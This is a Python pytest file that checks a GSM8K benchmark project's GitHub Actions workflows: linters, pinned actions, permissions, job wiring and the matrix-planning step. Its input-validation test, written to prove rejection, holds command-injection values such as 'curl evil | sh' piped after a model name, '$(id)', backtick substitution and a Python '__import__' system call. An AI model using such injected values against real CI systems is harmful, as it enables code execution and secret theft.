"""The GitHub Actions workflows: lint clean, wired as intended, and their plan step run for real."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys

import pytest
import yaml
from conftest import MINIMAL, ROOT, parse

from gsm8k_bench import dispatch
from gsm8k_bench.errors import ConfigError

WORKFLOWS = ROOT / ".github" / "workflows"
BENCHMARK = WORKFLOWS / "gsm8k-benchmark.yml"
ARTIFACT_NAME = re.compile(r'^[^":<>|*?\\/\r\n]+$')


def load(path):
    # PyYAML reads the key `on` as True; GitHub reads it as "on".
    data = yaml.safe_load(path.read_text())
    data["on"] = data.pop(True)
    return data


def all_steps(workflow):
    for job in workflow["jobs"].values():
        yield from job.get("steps", [])


@pytest.mark.parametrize("tool", ["actionlint", "zizmor"])
def test_linters_report_nothing(tool):
    binary = shutil.which(tool)
    assert binary, f"{tool} is a test dependency"
    argv = [binary] if tool == "actionlint" else [binary, "--offline", str(WORKFLOWS)]
    out = subprocess.run(argv, cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert out.returncode == 0, out.stdout + out.stderr


def test_no_expression_is_spliced_into_a_script():
    for path in WORKFLOWS.glob("*.yml"):
        for step in all_steps(load(path)):
            script = step.get("run", "")
            assert "${{" not in script, (path.name, step.get("name"), script)


def test_actions_pinned_and_permissions_minimal():
    for path in WORKFLOWS.glob("*.yml"):
        workflow = load(path)
        assert workflow["permissions"] == {"contents": "read"}, path.name
        for step in all_steps(workflow):
            if "uses" in step:
                assert re.match(r"^[\w.-]+/[\w.-]+@[0-9a-f]{40}$", step["uses"]), step["uses"]
                if step["uses"].startswith("actions/checkout@"):
                    assert step["with"]["persist-credentials"] is False


def test_benchmark_workflow_wiring():
    workflow = load(BENCHMARK)
    inputs = workflow["on"]["workflow_dispatch"]["inputs"]
    assert set(inputs) == {"model", "runner", "image", "framework", "precision", "tp", "num-fewshot", "limit",
                           "sessions"}
    assert inputs["framework"]["options"] == ["vllm", "sglang"]
    assert inputs["precision"]["options"] == ["fp16", "fp8", "fp4"]
    assert inputs["num-fewshot"]["default"] == "5"
    assert workflow["concurrency"]["cancel-in-progress"] is False
    jobs = workflow["jobs"]
    assert jobs["plan"]["outputs"]["matrix"] == "${{ steps.plan.outputs.matrix }}"
    bench = jobs["benchmark"]
    assert bench["needs"] == "plan"
    assert bench["strategy"]["matrix"]["include"] == "${{ fromJSON(needs.plan.outputs.matrix) }}"
    assert bench["strategy"]["fail-fast"] is False and bench["strategy"]["max-parallel"] > 0
    assert bench["runs-on"] == "${{ matrix.runner_label }}" and bench["timeout-minutes"] > 0
    upload = next(s for s in bench["steps"] if s.get("uses", "").startswith("actions/upload-artifact@"))
    assert upload["if"] == "always()" and upload["with"]["name"] == "${{ matrix.artifact }}"
    run = next(s for s in bench["steps"] if "NOX_SESSION" in s.get("env", {}))
    assert run["env"]["HF_TOKEN"] == "${{ secrets.HF_TOKEN }}"
    assert 'runners/launch_gsm8k_${SKU}.sh' in run["run"] and '"$NOX_SESSION"' in run["run"]
    summary = jobs["summary"]
    assert "always()" in summary["if"]
    report = next(s for s in summary["steps"] if s.get("name") == "Report")
    assert "nox -s report -- results report" in report["run"] and "GITHUB_STEP_SUMMARY" in report["run"]
    candidates = next(s for s in summary["steps"] if s.get("name") == "Candidate references")
    assert candidates["run"] == "nox -s promote -- results --passed-only --references-dir candidate-references"
    upload = next(s for s in summary["steps"] if s.get("name") == "Upload the candidate references")
    assert upload["with"]["path"] == "candidate-references/" and "candidate-references" in upload["with"]["name"]


def run_plan_step(tmp_path, **inputs):
    """The plan step exactly as the workflow has it: its command, its env mapping, its inputs."""
    step = next(s for s in load(BENCHMARK)["jobs"]["plan"]["steps"] if s.get("id") == "plan")
    env = {k: os.environ[k] for k in ("PATH", "HOME") if k in os.environ}
    defaults = {name: spec.get("default", "")
                for name, spec in load(BENCHMARK)["on"]["workflow_dispatch"]["inputs"].items()}
    values = {**defaults, **inputs}
    for name, expression in step["env"].items():
        match = re.fullmatch(r"\$\{\{ inputs\.([\w-]+) \}\}", expression)
        assert match, expression
        env[name] = str(values[match.group(1)])
    env["GITHUB_OUTPUT"] = str(tmp_path / "output")
    env["GITHUB_RUN_ATTEMPT"] = "2"
    argv = step["run"].split()
    assert argv[0] == "nox"
    return subprocess.run([sys.executable, "-m", *argv], cwd=ROOT, env=env, capture_output=True, text=True,
                          timeout=120)


def test_plan_step_yields_the_benchmark_matrix(tmp_path, matrix):
    out = run_plan_step(tmp_path, sessions="gsm8k")  # -k gsm8k: every session
    assert out.returncode == 0, out.stdout + out.stderr
    rows = json.loads((tmp_path / "output").read_text().removeprefix("matrix="))
    assert len(rows) == len(matrix.combinations)
    names = {c.name for c in matrix.combinations}
    artifacts = [r["artifact"] for r in rows]
    assert len(set(artifacts)) == len(artifacts)
    for row in rows:
        assert row["session"] in names and row["nox_session"] == row["session"]  # one nox -s per cell
        assert row["artifact"] == f"{row['session']}-attempt2" and ARTIFACT_NAME.match(row["artifact"])
        assert row["runner_label"] == matrix.runners[row["runner"]].label
        assert row["session_args"] == "--num-fewshot 5"


def test_plan_step_adhoc_combination(tmp_path):
    out = run_plan_step(tmp_path, model="Qwen/Qwen3-8B", runner="mi355x", framework="sglang", precision="fp8",
                        tp="2", limit="100", image="lmsysorg/sglang:v9-rocm")
    assert out.returncode == 0, out.stderr
    (row,) = json.loads((tmp_path / "output").read_text().removeprefix("matrix="))
    assert row["session"] == "gsm8k-qwen3-8b-mi355x-sglang-fp8-tp2" and row["nox_session"] == "gsm8k"
    assert row["session_args"].split() == [
        "--model", "qwen3-8b", "--runner", "mi355x", "--framework", "sglang", "--precision", "fp8", "--tp", "2",
        "--checkpoint", "Qwen/Qwen3-8B", "--num-fewshot", "5", "--limit", "100", "--image",
        "lmsysorg/sglang:v9-rocm"]


@pytest.mark.parametrize(("inputs", "message"), [
    ({"model": "llama-3.1-8b; curl evil | sh"}, "neither a matrix.yaml model"),
    ({"model": "$(id)"}, "neither a matrix.yaml model"),
    ({"model": "llama-3.1-8b", "image": "x`id`"}, "is not an image reference"),
    ({"model": "llama-3.1-8b", "tp": "1;id"}, "input 'tp': expected a whole number"),
    ({"model": "llama-3.1-8b", "limit": "-5"}, "input 'limit': expected a whole number"),
    ({"sessions": "__import__('os').system('id')"}, "-k expressions may use names"),
    ({"sessions": "().__class__"}, "-k expressions may use names"),
    ({"sessions": "gsm8k-nope-h100-vllm-fp16-tp1"}, "did you mean"),
    ({"model": "llama-3.1-8b", "runner": "h100", "precision": "fp4"}, "cannot run precision 'fp4'"),
])
def test_plan_step_rejects_bad_inputs(tmp_path, inputs, message):
    out = run_plan_step(tmp_path, **inputs)
    assert out.returncode != 0
    assert message in out.stderr + out.stdout
    assert not (tmp_path / "output").exists()


def test_selection_over_githubs_job_limit_fails_in_plan():
    big = MINIMAL.replace("tp: [1, 2]", "tp: [1, 2, 3, 4, 5, 6, 7, 8]").replace(
        "  tiny:\n", "  tiny:\n    max_model_len: 128\n")
    models = "\n".join(big.split("models:\n")[1].replace("  tiny:", f"  tiny{i}:") for i in range(8))
    matrix = parse(big.split("models:\n")[0] + "models:\n" + models)
    assert len(matrix.combinations) > dispatch.GITHUB_MAX_JOBS
    with pytest.raises(ConfigError, match="over GitHub's 256-job matrix limit"):
        dispatch.plan(matrix, {**dict.fromkeys(dispatch.INPUTS, ""), "sessions": "gsm8k"})
